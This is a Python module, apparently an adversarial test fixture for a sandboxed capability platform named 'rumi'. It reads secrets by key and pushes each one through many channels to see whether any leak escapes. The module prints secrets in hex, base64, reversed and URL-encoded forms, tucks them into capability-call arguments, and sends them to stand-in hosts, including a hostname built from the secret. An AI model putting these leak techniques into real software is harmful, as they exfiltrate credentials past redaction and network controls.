"""Reads each key and leaves its value, in several spellings, wherever others could look."""
import base64
import json
import sys
import urllib.parse

import rumi_capability
import rumi_syscall


def spellings(value):
    raw = value.encode()
    return [
        value,
        value[::-1],
        raw.hex(),
        base64.b64encode(raw).decode(),
        base64.urlsafe_b64encode(b"x" + raw).decode(),
        urllib.parse.quote(value, safe=""),
        json.dumps({"value": value}),
        json.dumps(json.dumps(value)),
    ]


def run(input_data, context):
    values = []
    for key in input_data["keys"]:
        value = rumi_capability.get_secret(key)
        values.append(value)
        for spelling in spellings(value):
            print("out:", spelling)
            print("err:", spelling, file=sys.stderr)
        sys.stdout.buffer.write(value.encode("utf-16-le") + b"\n")
        rumi_capability.call(value)
        rumi_capability.call("store.get", {"store_id": value, "key": value})
        rumi_capability.call("store.get", {"store_id": "x", "key": "k", value: value})
        rumi_capability.call("secrets.get", {"key": value}, request_id=value)
        rumi_syscall.get("https://denied.rumi.example/" + urllib.parse.quote(value) + "?q=" + urllib.parse.quote(value))
        rumi_syscall.http_request(value[:16], "https://" + urllib.parse.quote(value) + ".rumi.example/", {value: value}, value)
        rumi_syscall.network_check(value, 443)
    return {"all": values, "first": values[0], "spelt": [spellings(value) for value in values], "by_name": {value: 1 for value in values}}
